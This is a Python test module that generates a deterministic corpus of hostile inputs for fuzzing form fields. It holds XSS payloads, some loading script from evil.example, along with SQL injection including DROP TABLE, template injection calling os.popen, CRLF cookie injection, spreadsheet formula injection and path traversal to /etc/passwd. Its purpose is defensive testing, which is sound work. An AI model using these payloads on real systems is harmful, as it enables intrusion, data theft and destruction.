"""The hostile-input corpus: strings a careless desk would execute, break on, or mangle.

Each entry is (category, text). The long and oversized ones are generated here, never
stored. `sample(n, key)` picks n deterministic strings for one field, spread over every
category, so the fast tier still sends each kind of attack to each field.
"""

from __future__ import annotations

import itertools
import random
import zlib
from functools import cache

# Building blocks: each list is crossed with the wrappers below to reach a few hundred
# distinct strings without typing them all.
_SCRIPT = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"><script>alert(document.cookie)</script>',
    "'><script>alert(1)</script>",
    "<script >alert(1)</script >",
    "<ScRiPt>alert(String.fromCharCode(88,83,83))</ScRiPt>",
    "<script/src=data:,alert(1)></script>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    "javascript:alert(1)",
    "javascript://%0aalert(1)",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="//evil.example/">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<!--<script>alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]
_EVENT = [
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="alert(1)">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)">',
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) x="',
    "<select onchange=alert(1)><option>1</select>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<x contenteditable onblur=alert(1)>lose focus</x>",
    '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
    "<img src=`x` onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
]
_SVG = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
]
_TEMPLATE = [
    "{{7*7}}",
    "{{ 7*'7' }}",
    "{{config}}",
    "{{ config.items() }}",
    "{{ request.environ }}",
    "{{ self.__init__.__globals__ }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{% for x in range(10) %}x{% endfor %}",
    "{% raw %}{{7*7}}{% endraw %}",
    "{% include '/etc/passwd' %}",
    "{% set x = 1 %}{{ x }}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(name)s %s %d %%",
    "{0} {name} {}",
    "{{_('Name')}}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "[[${7*7}]]",
]
_SQL = [
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "'; DROP TABLE candidates; --",
    "1; DELETE FROM tickets",
    "admin'--",
    "' UNION SELECT id_number_hash FROM candidates --",
    "1' AND SLEEP(5) AND '1'='1",
    "'; SELECT pg_sleep(5); --",
    "%' OR name LIKE '%",
    "%_%",
    "\\'; --",
    "1 OR 1=1",
    "' || (SELECT version()) || '",
    "Robert'); DROP TABLE staff;--",
]
_CRLF = [
    "line1\r\nline2",
    "x\r\nSet-Cookie: session=stolen",
    "x\r\nLocation: https://evil.example",
    "x%0d%0aSet-Cookie:%20a=b",
    "\r\n\r\n<html>injected</html>",
    "x\nX-Injected: 1",
    "a\rb",
    "tab\tseparated\tvalue",
    '=HYPERLINK("https://evil.example","click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-2+3",
    "@SUM(1+1)",
    "\u2028line separator\u2029paragraph",
    "\x0bvertical\x0cform feed",
]
_UNICODE = [
    "\u202eevil\u202c",  # right-to-left override
    "abc\u202edcba",
    "\u2066isolate\u2069",
    "\u200b",
    "zero\u200bwidth\u200cjoin\u200dx",
    "\ufeffbom",
    "\u00ad soft hyphen",
    "\u034f combining grapheme joiner",
    "e\u0301\u0301\u0301\u0301\u0301",
    "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035a",
    "\u0000",
    "nul\u0000inside",
    "\x01\x02\x03\x7f",
    "\ud7ff\ue000\ufffd",
    "\ufffe\uffff",
    "１２３４５６７８９０",  # full-width digits
    "１１０１０１１９９００３０７７５１Ｘ",
    "Ｔ１２３４５６",
    "٠١٢٣٤٥٦٧٨٩",  # Arabic-Indic digits
    "۰۱۲۳۴۵۶۷۸۹",  # extended Arabic-Indic
    "१२३४५६",  # Devanagari digits
    "😀",
    "👩‍👩‍👧‍👦",
    "🇨🇳🏳️‍🌈",
    "𠜎𠜱𠝹𠱓",  # astral CJK
    "𝕳𝖊𝖑𝖑𝖔",
    "張三 王五",
    "　全角空格　",
    "ｓｃｒｉｐｔ",
    "＜script＞alert(1)＜/script＞",
    "İı ß ﬁ",
    "\u0130stanbul",
    "Ω≈ç√∫˜µ≤≥÷",
    "ثم نفس سقطت وبالتحديد",
    "בְּרֵאשִׁית",
    "ﷺ",
    "᠎",
    "   ",
    "\t\n",
    "'",
    '"',
    "\\",
    "<",
    "&amp;&lt;&gt;&#x3C;",
    "%00",
    "%3Cscript%3E",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "C:\\CON\\NUL",
    "null",
    "None",
    "undefined",
    "NaN",
    "true",
    "-1",
    "0",
    "1e309",
    "99999999999999999999999999",
    "-0.0",
    "0x41",
]
_WRAPPERS = ["{}", "名字{}", "{} 考生", "  {}  ", "{}{}"]


def _generated() -> list[tuple[str, str]]:
    """Long, oversized and empty values, built at run time."""
    return [
        ("empty", ""),
        ("long", "长" * 101),
        ("long", "a" * 257),
        ("long", "x" * 501),
        ("long", "字" * 1001),
        ("long", "<b>" * 700),
        ("long", "😀" * 300),
        ("long", "A" * 4097),
        ("oversized", "界" * 20_000),
        ("oversized", "b" * 100_001),
        ("oversized", "\u202e" * 5000),
        ("oversized", "{{7*7}}" * 3000),
    ]


#: Sent to every field even in the fast tier: the shapes most likely to break a layer.
ALWAYS = (
    "nul\u0000inside",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}}",
    "' OR '1'='1",
    "x\r\nSet-Cookie: session=stolen",
    "abc\u202edcba",
    "",
    "１２３４５６７８９０",
)


@cache
def corpus() -> tuple[tuple[str, str], ...]:
    """Every hostile string with its category, without duplicates, in a stable order."""
    groups = {
        "script": _SCRIPT,
        "event": _EVENT,
        "svg": _SVG,
        "template": _TEMPLATE,
        "sql": _SQL,
        "crlf": _CRLF,
        "unicode": _UNICODE,
    }
    seen: set[str] = set()
    entries: list[tuple[str, str]] = []
    for category, values in groups.items():
        for wrapper, value in itertools.product(_WRAPPERS, values):
            # Only the markup-bearing groups are wrapped; the rest are exact shapes.
            if wrapper != "{}" and category in ("unicode", "crlf") and len(value) < 3:
                continue
            text = (
                wrapper.replace("{}", value)
                if category != "template" or wrapper == "{}"
                else wrapper.replace("{}", value, 1).replace("{}", "")
            )
            if text not in seen:
                seen.add(text)
                entries.append((category, text))
    for category, text in _generated():
        if text not in seen:
            seen.add(text)
            entries.append((category, text))
    return tuple(entries)


def sample(n: int | None, key: str) -> list[str]:
    """n strings for the field named key (all of them when n is None), every category
    represented, the same ones on every run."""
    entries = corpus()
    if n is None or n >= len(entries):
        return [text for _, text in entries]
    rng = random.Random(zlib.crc32(key.encode()))
    by_category: dict[str, list[str]] = {}
    for category, text in entries:
        if text not in ALWAYS:
            by_category.setdefault(category, []).append(text)
    for texts in by_category.values():
        rng.shuffle(texts)
    picked: list[str] = list(ALWAYS)[:n]
    for round_ in itertools.count():
        for texts in by_category.values():
            if round_ < len(texts) and len(picked) < n:
                picked.append(texts[round_])
        if len(picked) >= n:
            return picked
    raise AssertionError("unreachable")  # pragma: no cover


#: Substrings whose presence in a string means the markup checks apply to it.
MARKUP_MARKERS = ("<", "javascript:", "onerror", "onload")
